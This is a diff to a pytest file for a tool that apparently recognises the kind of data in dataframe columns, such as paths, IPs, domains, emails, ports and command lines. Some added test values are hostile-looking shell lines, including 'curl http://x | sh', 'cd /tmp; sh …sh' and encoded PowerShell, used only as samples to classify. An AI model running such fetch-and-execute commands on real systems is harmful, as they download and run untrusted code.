@@ -82,6 +82,14 @@ IS = {
     "file name": (many(lambda i: f"{letters(8)}.pdf"), "path"),
     "unix": (many(lambda i: f"/usr/lib/{letters(6)}.so"), "path"),
     "command": (many(lambda i: f"powershell.exe -enc {letters(30)}"), "command_line"),
+    "command with a url": (many(lambda i: f"curl http://{letters(5)}.com/a"), "command_line"),
+    "command with a mode": (many(lambda i: f"chmod +x {letters(5)}"), "command_line"),
+    "commands after another": (many(lambda i: f"cd /tmp; sh {letters(5)}.sh"), "command_line"),
+    "commands of many kinds": (
+        ["powershell.exe -enc aQBl", '"C:\\a.exe" /c dir', "curl http://x | sh"],
+        "command_line",
+    ),
+    "list of ips": (many(lambda i: f"8.8.4.{i}, 10.0.0.9"), "ip"),
     "quoted": (many(lambda i: f'"C:\\Windows\\a.exe" /c {letters(5)}'), "command_line"),
     "domain": (many(lambda i: f"{letters(9)}.com"), "domain"),
     "odd domain": (many(lambda i: f"_dmarc.{letters(9)}.co.uk"), "domain"),
@@ -148,6 +156,21 @@ def test_values_alone_tell_their_kind(case):
 
 
 NAMED = {
+    "From": (many(lambda i: f'"{letters(4)}, {letters(5)}" <u{i}@mail.example.org>'), "email"),
+    "sender": (many(lambda i: f"{letters(4)} x <u{i}@mail.example.org>"), "email"),
+    "to": (many(lambda i: f"u{i}@a.example.org, {letters(4)} <v{i}@b.example.org>"), "email"),
+    "recipients": (many(lambda i: f"u{i}@a.example.org; v{i}@b.example.org;"), "email"),
+    "x_forwarded_for": (
+        many(lambda i: f"8.8.4.{i}" + ", 10.0.0.9, unknown" * (i % 2)),
+        "ip",
+    ),
+    "hostname": (many(lambda i: f"{letters(8)}.com" + ":8443" * (i % 2)), "domain"),
+    "http_host": (many(lambda i: f"{letters(8)}.com:8443"), "domain"),
+    "fqdn": (many(lambda i: f"{letters(6)}ü.{'de' if i % 2 else 'рф'}"), "domain"),
+    "http_cookie": (many(lambda i: f"sid={letters(9)}; lang=en; t={i}"), "http_payload"),
+    "sport": (many(lambda i: f"{R.randrange(65536)}" + "/tcp" * (i % 2)), "port"),
+    "DstPort": (many(lambda i: f"{R.randrange(65536)}/udp"), "port"),
+    "KeyLength": (many(lambda i: [0, 128, 2048, 4096][i % 4]), "number"),
     "src_port": (many(lambda i: R.randrange(65536)), "port"),
     "id.orig_p": (many(lambda i: R.randrange(65536)), "port"),
     "DestinationPort": (many(lambda i: str(R.randrange(1, 65536))), "port"),
@@ -200,6 +223,26 @@ def test_a_name_decides_only_together_with_the_values(name):
 
 
 CONFUSIONS = {
+    "names with a port are no domains without a hint": (
+        many(lambda i: f"{letters(8)}.com:{i}"),
+        "field",
+        "text",
+    ),
+    "lines that name a mail address are none": (
+        many(lambda i: f"mail of u{i} <u{i}@mail.example.org> was {letters(6)}"),
+        "field",
+        "text",
+    ),
+    "an address and a number are no list": (
+        many(lambda i: f"10.0.0.{i},{letters(5)}"),
+        "field",
+        "text",
+    ),
+    "numbers over 65535 are no ports": (
+        many(lambda i: f"{70_000 + i}/tcp"),
+        "dst_port",
+        "text",
+    ),
     "ages are no ports": (many(lambda i: 18 + i % 60), "age", "number"),
     "ports are no status codes": (
         many(lambda i: [22, 80, 443, 8080, 200, 404][i % 6]),
@@ -324,6 +367,19 @@ def test_objects_of_json_are_told_with_the_way_to_make_columns_of_them():
         "100 % of the distinct values are JSON objects. "
         "Decode them before (polars: str.json_decode), and each key is a column."
     )
+
+
+@pytest.mark.parametrize(
+    ("values", "told"),
+    [
+        (["a", None], "1 value in 1 cell."),
+        (["a", "a", None], "1 value in 2 cells."),
+        (["a", "b"], "2 values in 2 cells."),
+        (["a", "a", "b", "b"], "2 values in 4 cells that repeat."),
+    ],
+)
+def test_values_are_told_to_repeat_only_where_they_do(values, told):
+    assert recognise(pl.DataFrame({"x": values})).columns[0].evidence == told
 
 
 def test_the_share_of_numbers_is_told():
